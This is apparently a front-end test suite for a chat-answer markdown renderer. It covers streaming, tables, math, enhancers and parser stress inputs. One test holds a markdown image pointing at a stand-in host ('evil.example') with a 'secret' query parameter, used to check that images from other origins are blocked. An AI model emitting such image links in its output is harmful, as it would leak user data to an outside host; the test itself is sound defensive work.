import '../../dist/company-chat.js';
import { assert, equal } from './helpers.js';
import { body, context, markdownElement, normalize, ourTree, renderOnce, renderStreamed } from './markdown-harness.js';

const answers = await (await fetch(new URL('./fixtures/chat-answers.json', import.meta.url))).json();
const answer = (name) => answers.find((a) => a.name.startsWith(name)).markdown;

afterEach(() => {
  for (const el of document.querySelectorAll('cc-markdown')) el.remove();
});

describe('<cc-markdown>: chat answers', () => {
  for (const [i, a] of answers.entries()) {
    it(`${a.name}: expected HTML, and streamed in 1–4 character chunks ends in the one-shot DOM`, async () => {
      const once = await renderOnce(a.markdown, context());
      equal(normalize(ourTree(once)), a.html, 'rendered HTML');
      for (const seed of [i + 1, i + 101, i + 1001]) {
        const streamed = await renderStreamed(a.markdown, seed, context());
        equal(body(streamed).innerHTML, body(once).innerHTML, `streamed with seed ${seed}`);
        streamed.remove();
      }
    });
  }

  it('keeps code blocks and sub-lists inside their numbered item', async () => {
    const el = await renderOnce(answer('numbered how-to'), context());
    const items = body(el).querySelectorAll(':scope > ol > li');
    equal(items.length, 3, 'three steps');
    assert(items[0].querySelector('.code-block code[data-lang="sh"]'), 'the code block is inside step 1');
    equal(items[1].querySelectorAll('ul > li').length, 2, 'the bullets are inside step 2');
    assert(items[1].querySelector('ul > li p'), 'the loose sub-item keeps its paragraph');
  });

  it('GFM: a table right after a line of text, task lists, strikethrough and extended autolinks', async () => {
    const table = body(await renderOnce(answer('table right after'), context()));
    equal(table.querySelector('p').textContent, 'Intro:', 'the intro line stays a paragraph');
    equal(table.querySelectorAll('th').length, 3, 'header cells');
    equal(table.querySelector('td.align-right').textContent, '$5', 'right-aligned price, not math');

    const tasks = body(await renderOnce(answer('task list'), context()));
    const boxes = [...tasks.querySelectorAll('li.task-list-item > input[type="checkbox"]')];
    equal(boxes.map((b) => `${b.disabled}:${b.checked}`).join(), 'true:true,true:false,true:false', 'disabled boxes');
    equal(tasks.querySelector('del').textContent, 'ship it', 'strikethrough');

    const links = [...body(await renderOnce(answer('links with'), context())).querySelectorAll('a')];
    equal(
      links.map((a) => a.getAttribute('href')).join(' '),
      'https://en.wikipedia.org/wiki/Markdown_(language) https://en.wikipedia.org/wiki/Lisp_(programming_language) http://www.example.com/docs mailto:help@example.com',
      'link targets, parentheses included',
    );
  });

  it('math becomes placeholders showing the TeX; prices stay text; the math flag turns it off', async () => {
    const on = body(await renderOnce(answer('math'), context()));
    const math = [...on.querySelectorAll('.cc-math')].map(
      (m) => `${m.localName}${m.classList.contains('cc-math-display') ? ' display' : ''}: ${m.dataset.tex}`,
    );
    equal(
      math.join(' | '),
      'span: \\pi r^2 | span: e^{i\\pi} + 1 = 0 | div display: \\int_0^1 x^2\\,dx = \\frac{1}{3} | div display: a^2 + b^2 = c^2',
      'math nodes',
    );
    assert(on.textContent.includes('It costs $5 and $10 in total, not $ 5 $.'), 'prices are text');
    const off = body(await renderOnce(answer('math'), context({ math: false })));
    equal(off.querySelectorAll('.cc-math').length, 0, 'no math with math: false');
    assert(off.textContent.includes('$\\pi r^2$'), 'the dollars stay text');
  });

  it('images render only from allowed origins', async () => {
    const md = '![chart](https://img.example.com/c.png) ![exfil](https://evil.example/x.png?q=secret)';
    const el = body(await renderOnce(md, context({ imageOrigins: new Set(['https://img.example.com']) })));
    const imgs = el.querySelectorAll('img');
    equal(imgs.length, 1, 'one image');
    equal(imgs[0].getAttribute('src'), 'https://img.example.com/c.png', 'allowed src');
    equal(el.querySelector('.image-blocked').textContent, '[Image blocked: exfil]', 'blocked image shows its alt text');
  });
});

describe('<cc-markdown>: while streaming', () => {
  it('shows open emphasis, code spans and links completed, and the exact text once the stream ends', async () => {
    const el = markdownElement();
    el.streaming = true;
    el.content = 'Intro.\n\nThis is **really imp';
    await el.settled;
    equal(body(el).querySelector('strong')?.textContent, 'really imp', 'bold at once');
    el.content = 'Intro.\n\nThis is **really important**, see [the docs](https://exa';
    await el.settled;
    equal(body(el).lastElementChild.textContent, 'This is really important, see the docs', 'no raw link syntax');
    el.content += 'mple.com/docs) and `npm i';
    await el.settled;
    equal(body(el).querySelector('p:last-child code')?.textContent, 'npm i', 'open code span');
    el.streaming = false;
    await el.settled;
    equal(
      body(el).lastElementChild.textContent,
      'This is really important, see the docs and `npm i',
      'exact once finished',
    );
  });

  const growing = [
    [
      'list',
      'li',
      '1. first step\n2. second step\n3. thi',
      'rd step\n4. fourth',
      'first step,second step,third step,fourth',
    ],
    ['table', 'tbody tr', '| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n| 5', ' | 6 |\n| 7 | 8 |', '12,34,56,78'],
  ];
  for (const [what, selector, start, more, expected] of growing) {
    it(`a growing ${what} keeps the DOM of its finished parts`, async () => {
      const el = markdownElement();
      el.streaming = true;
      el.content = start;
      await el.settled;
      const [first, second] = body(el).querySelectorAll(selector);
      el.content += more;
      await el.settled;
      const parts = body(el).querySelectorAll(selector);
      equal([...parts].map((p) => p.textContent).join(), expected, 'all parts');
      assert(parts[0] === first && parts[1] === second, 'unchanged parts are the same nodes');
    });
  }
});

describe('<cc-markdown>: enhancers', () => {
  it('are called once per finished code block with a language and per math node, only for nodes that stay', async () => {
    const calls = [];
    const enhancers = {
      code: (node, lang, text) => calls.push({ node, what: `code ${lang}: ${text}` }),
      math: (node, tex, display) => calls.push({ node, what: `math${display ? ' display' : ''}: ${tex}` }),
    };
    const text = `${answer('numbered how-to')}\n${answer('math')}\n${answer('headings')}`;
    const el = await renderStreamed(text, 5, context({ enhancers }));
    const root = body(el);
    for (const c of calls) assert(c.node.isConnected && root.contains(c.node), `${c.what} is still shown`);
    const nodes = calls.map((c) => c.node);
    equal(new Set(nodes).size, nodes.length, 'never twice for one node');
    equal(
      calls.map((c) => c.what).join('\n'),
      [
        'code sh: npm install -g company-chat',
        'math: \\pi r^2',
        'math: e^{i\\pi} + 1 = 0',
        'math display: \\int_0^1 x^2\\,dx = \\frac{1}{3}',
        'math display: a^2 + b^2 = c^2',
        'code ts: const answer: number = 42;',
      ].join('\n'),
      'calls in document order; none for the indented code without a language',
    );
  });

  it('set after the answer rendered (a lazily loaded module), reach the finished nodes once', async () => {
    const el = await renderOnce('```py\nprint(1)\n```\n\nArea $\\pi r^2$.\n', context());
    const calls = [];
    el.enhancers = { code: (_n, lang) => calls.push(lang), math: (_n, tex) => calls.push(tex) };
    await el.settled;
    el.enhancers = { ...el.enhancers };
    await el.settled;
    equal(calls.join(), 'py,\\pi r^2', 'each node once');
  });

  it('wait while streaming: a block that is still open is not enhanced', async () => {
    const calls = [];
    const el = markdownElement(context({ enhancers: { code: (_n, lang) => calls.push(lang) } }));
    el.streaming = true;
    el.content = 'Example:\n\n```js\nconst a = 1;\n';
    await el.settled;
    equal(calls.length, 0, 'open fence: not enhanced');
    el.content += '```\n\nAfter the code.\n\nMore.\n';
    await el.settled;
    equal(calls.join(), 'js', 'enhanced once it is finished');
  });
});

describe('<cc-markdown>: long and hostile answers', () => {
  // About 77,000 characters of ordinary answer: headings, paragraphs, lists, code and tables.
  function longAnswer() {
    const parts = [];
    for (let i = 0; parts.join('').length < 77_000; i++) {
      parts.push(
        `## Part ${i}\n\nSome **bold** text, a [link](https://example.com/${i}) and \`code\`. `.repeat(3),
        `\n\n1. step one\n   - detail\n2. step two\n\n\`\`\`ts\nconst x${i} = ${i};\n\`\`\`\n\n| a | b |\n|---|---|\n| ${i} | ${i * 2} |\n\n`,
      );
    }
    return parts.join('');
  }

  it('a 77k-character burst renders across several frames and ends in the DOM of a streamed render', async () => {
    const text = longAnswer();
    const el = markdownElement();
    el.content = text;
    await el.updateComplete;
    const first = body(el).childElementCount;
    let done = false;
    el.settled.then(() => (done = true));
    let frames = 0;
    while (!done) {
      await new Promise((r) => requestAnimationFrame(r));
      frames++;
    }
    const total = body(el).childElementCount;
    // The first task stops at its time budget: rendering it all at once takes far longer on any machine.
    assert(first < total, `the first task rendered part of it (${first} of ${total} blocks, rest in ${frames} frames)`);
    const streamed = markdownElement();
    let sofar = '';
    for (let i = 0; i < text.length; i += 997) {
      sofar = text.slice(0, i + 997);
      streamed.content = sofar;
      await streamed.updateComplete;
    }
    await streamed.settled;
    equal(body(el).innerHTML, body(streamed).innerHTML, 'same DOM');
  });

  const bombs = {
    asterisks: '*'.repeat(10_000),
    'open brackets': '['.repeat(5_000),
    'links without end': '[a]('.repeat(2_500),
    'deep quotes': `${'>'.repeat(5_000)} x`,
    'deep lists': Array.from({ length: 300 }, (_, i) => `${' '.repeat(2 * (i % 60))}- x`).join('\n'),
    'long table': `| a | b | c |\n|---|---|---|\n${'| 1 | **b** | c |\n'.repeat(600)}`,
  };
  for (const [name, text] of Object.entries(bombs)) {
    it(`hostile input streamed 3 characters at a time finishes in the one-shot DOM: ${name}`, async () => {
      const once = await renderOnce(text, context());
      const el = markdownElement();
      el.streaming = true;
      for (let i = 3; i < text.length + 3; i += 3) {
        el.content = text.slice(0, i);
        await el.updateComplete;
      }
      el.streaming = false;
      await el.settled;
      equal(body(el).innerHTML, body(once).innerHTML, 'same DOM');
    });
  }
});
